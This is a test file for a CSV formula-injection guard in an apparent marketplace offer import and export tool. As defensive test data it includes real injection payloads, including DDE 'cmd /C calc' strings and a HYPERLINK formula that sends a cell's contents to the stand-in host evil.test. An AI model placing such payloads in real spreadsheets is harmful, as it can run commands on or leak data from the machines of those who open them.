// CSV formula injection: text cells that would run as a spreadsheet formula are written with one
// leading `'`, numbers are written bare, and reading takes off exactly that `'` again.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Product } from '../../electron/contract/marketplace/wire';
import {
  exportOffersCsv,
  exportOffersXlsx,
  offerTemplateCsv,
  readOfferFile,
  writeColumnHeader,
  type ExportedOffer,
} from '../../electron/core/imports/offers';
import { delimitedRecords } from '../../electron/core/imports/text/delimited';
import {
  guardFormulaCell,
  unguardFormulaCell,
  type CellKind,
} from '../../electron/core/imports/text/formulaGuard';
import { demoProducts } from '../../electron/sandbox/seed';

const account = demoProducts().find((p) => p.id === 10)!; // Valorant Accounts
const fieldId = (product: Product, title: string) =>
  String(product.product_fields.find((f) => f.title === title && f.deleted_at === null)!.id);
const allowed = (product: Product, title: string) =>
  product.product_fields.find((f) => f.title === title)!.field_values.map((v) => v.value);

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** A real-world payload for each trigger character. */
const payloads: Record<string, string> = {
  '=': '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  '+': "+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t': '\t=1+1',
  '\r': '\r=1+1',
};
/** Text that must come back as it is, prefix or not. */
const plainTexts = [
  "'tis the season",
  "'quoted by hand",
  "'=already guarded by the seller",
  '-5',
  '-0.5',
];
const startsLikeFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('the formula guard', () => {
  it('guards text that starts like a formula, never a number in a number column', () => {
    const cases: [string, CellKind, string][] = [
      ['=1+1', 'text', "'=1+1"],
      ['+1', 'text', "'+1"],
      ['-5', 'text', "'-5"],
      ['@SUM(A1)', 'text', "'@SUM(A1)"],
      ['\tx', 'text', "'\tx"],
      ['\rx', 'text', "'\rx"],
      ['plain', 'text', 'plain'],
      ["'tis", 'text', "'tis"],
      ["'=x", 'text', "''=x"],
      ['-5', 'number', '-5'],
      ['-0.5', 'number', '-0.5'],
      ['+1e-7', 'number', '+1e-7'],
      ['-1,5', 'number', '-1,5'],
      ['-5+A1', 'number', "'-5+A1"],
      ['=1', 'number', "'=1"],
    ];
    for (const [text, kind, written] of cases) {
      expect(guardFormulaCell(text, kind), JSON.stringify([text, kind])).toBe(written);
      expect(unguardFormulaCell(written, kind), JSON.stringify([written, kind])).toBe(text);
    }
  });

  it('takes off one quote only where the guard would have put it', () => {
    expect(unguardFormulaCell("'tis", 'text')).toBe("'tis");
    expect(unguardFormulaCell("'", 'text')).toBe("'");
    expect(unguardFormulaCell("''=x", 'text')).toBe("'=x");
    expect(unguardFormulaCell("'-5", 'text')).toBe('-5');
    // A number column never guards -5, so a quoted -5 there is the seller's and stays.
    expect(unguardFormulaCell("'-5", 'number')).toBe("'-5");
    expect(unguardFormulaCell("'=x", 'number')).toBe('=x');
  });

  it('is a bijection that never writes a live formula', () => {
    const unit = fc.constantFrom("'", ...TRIGGERS, 'a', '1', '0', '.', ',', 'e', ' ', '"');
    fc.assert(
      fc.property(
        fc.string({ unit, maxLength: 8 }),
        fc.constantFrom<CellKind>('text', 'number'),
        (text, kind) => {
          const written = guardFormulaCell(text, kind);
          expect(unguardFormulaCell(written, kind)).toBe(text);
          if (startsLikeFormula(written)) {
            expect(kind).toBe('number');
            expect(Number.isFinite(Number(written.replace(',', '.')))).toBe(true);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });
});

function accountOffer(text: string, i: number): ExportedOffer {
  return {
    id: 700 + i,
    price_per_step: 10 + i,
    amount: 1,
    min_purchase_amount: 1,
    guarantee_delivery_time: 3_600_000,
    outer_name: text,
    internal_name: `${text} (internal)`,
    description: text,
    comment_for_reviewer: text,
    search_description: text,
    is_auto_activate_status: false,
    credential_system_type_id: 3,
    marketplace_type: 2,
    data: {
      [fieldId(account, 'Rank')]: allowed(account, 'Rank')[0]!,
      [fieldId(account, 'Region')]: 'EU',
      [fieldId(account, 'Platform')]: 'PC',
      [fieldId(account, 'Account level')]: 20 + i,
      [fieldId(account, 'Account title')]: text,
    },
  };
}

const TEXT_COLUMNS = [
  writeColumnHeader('outer_name'),
  writeColumnHeader('internal_name'),
  writeColumnHeader('description'),
  writeColumnHeader('comment_for_reviewer'),
  writeColumnHeader('search_description'),
  'Account title',
];

describe('offers CSV export → import with formula-like text', () => {
  const texts = [...TRIGGERS.map((t) => payloads[t]!), ...plainTexts];
  const offers = texts.map(accountOffer);
  const csv = exportOffersCsv(offers, account);
  const [header, ...records] = [...delimitedRecords(csv, ',')];
  const column = (name: string) => header!.cells.indexOf(name);

  it('writes every trigger-led text cell with one leading quote, the rest as they are', () => {
    for (const name of TEXT_COLUMNS) {
      const index = column(name);
      expect(index, name).toBeGreaterThanOrEqual(0);
      records.forEach((record, i) => {
        const value =
          name === writeColumnHeader('internal_name') ? offers[i]!.internal_name! : texts[i]!;
        const expected = /^'*[=+\-@\t\r]/.test(value) ? `'${value}` : value;
        expect(record.cells[index], `${name} of offer ${i}`).toBe(expected);
      });
    }
    // The bytes themselves, as a spreadsheet gets them.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"`);
    expect(csv).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'-2+3+cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'@SUM(1+9)*cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'\t=1+1,`);
    expect(csv).toContain(`,"'\r=1+1",`);
    expect(csv).toContain(`,'-5,`);
    expect(csv).toContain(`,'tis the season,`);
    expect(csv).toContain(`,''=already guarded by the seller,`);
  });

  it('leaves no cell that a spreadsheet would run', () => {
    for (const record of [header!, ...records]) {
      for (const cell of record.cells) expect(startsLikeFormula(cell), cell).toBe(false);
    }
  });

  it('reads back exactly the values written', async () => {
    const sheet = await readOfferFile(Buffer.from(csv, 'utf8'), account);
    expect(sheet.headerProblems).toEqual([]);
    expect(sheet.rows.map((r) => r.problems)).toEqual(offers.map(() => []));
    expect(sheet.rows.map((r) => r.offer)).toEqual(
      offers.map(({ guarantee_delivery_time: _, ...o }) => o),
    );
  });

  it('writes numbers bare, negative ones included, and reads them as numbers', async () => {
    const negative = {
      ...accountOffer('x', 0),
      booster_price: -0.5,
      data: { ...accountOffer('x', 0).data, [fieldId(account, 'Account level')]: -5 },
    };
    const written = exportOffersCsv([negative], account);
    const [head, row] = [...delimitedRecords(written, ',')];
    expect(row!.cells[head!.cells.indexOf(writeColumnHeader('booster_price'))]).toBe('-0.5');
    expect(row!.cells[head!.cells.indexOf('Account level')]).toBe('-5');
    const sheet = await readOfferFile(Buffer.from(written, 'utf8'), account);
    expect(sheet.rows[0]!.offer.booster_price).toBe(-0.5);
    expect(sheet.rows[0]!.offer.data![fieldId(account, 'Account level')]).toBe(-5);
  });

  it('keeps a seller-written quote that guards nothing, and strips one that does', async () => {
    const header = `price_per_step,amount,min_purchase_amount,outer_name,description,Rank,Region,Platform,Account level,Account title`;
    const rest = `${allowed(account, 'Rank')[0]},EU,PC,'-5,x`;
    const file = [header, `1,1,1,'tis,'=SUM(A1),${rest}`].join('\r\n');
    const sheet = await readOfferFile(Buffer.from(file, 'utf8'), account);
    const row = sheet.rows[0]!;
    expect(row.offer.outer_name).toBe("'tis");
    expect(row.offer.description).toBe('=SUM(A1)');
    // Never a quote the export would have written in a number column: the seller's, kept.
    expect(row.offer.data![fieldId(account, 'Account level')]).toBe("'-5");
    expect(row.problems.map((p) => p.column)).toEqual(['Account level']);
  });

  it('leaves XLSX cells as they are: a string cell is never a formula there', async () => {
    const xlsxOffers = offers.filter((o) => !o.outer_name!.includes('\r'));
    const sheet = await readOfferFile(await exportOffersXlsx(xlsxOffers, account), account);
    expect(sheet.rows.map((r) => r.offer)).toEqual(
      xlsxOffers.map(({ guarantee_delivery_time: _, ...o }) => o),
    );
  });
});

describe('a product whose titles and values come from a hostile marketplace', () => {
  const hostile: Product = {
    ...account,
    product_fields: account.product_fields.map((f) =>
      f.title === 'Account title'
        ? { ...f, title: "=cmd|' /C calc'!A0" }
        : f.title === 'Region'
          ? {
              ...f,
              field_values: [
                ...f.field_values,
                { ...f.field_values[0]!, id: 99_001, value: '-EU+cmd' },
                { ...f.field_values[0]!, id: 99_002, value: 'x,@SUM(1)' },
              ],
            }
          : f,
    ),
  };

  it('guards the header, select values and the template notes, and reads the header back', async () => {
    const offer = {
      ...accountOffer('name', 0),
      data: { ...accountOffer('name', 0).data, [fieldId(account, 'Region')]: '-EU+cmd' },
    };
    const csv = exportOffersCsv([offer], hostile);
    for (const record of delimitedRecords(csv, ',')) {
      for (const cell of record.cells) expect(startsLikeFormula(cell), cell).toBe(false);
    }
    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
    const sheet = await readOfferFile(Buffer.from(csv, 'utf8'), hostile);
    expect(sheet.headerProblems).toEqual([]);
    expect(sheet.rows[0]!.problems).toEqual([]);
    expect(sheet.rows[0]!.offer).toEqual((({ guarantee_delivery_time: _, ...o }) => o)(offer));

    const template = offerTemplateCsv(hostile);
    // A spreadsheet splits comment rows at their commas too.
    for (const line of template.split('\r\n')) {
      for (const piece of line.split(',')) expect(startsLikeFormula(piece), piece).toBe(false);
    }
    expect(template).toContain(",'@SUM(1)");
    expect((await readOfferFile(Buffer.from(template, 'utf8'), hostile)).headerProblems).toEqual(
      [],
    );
  });
});
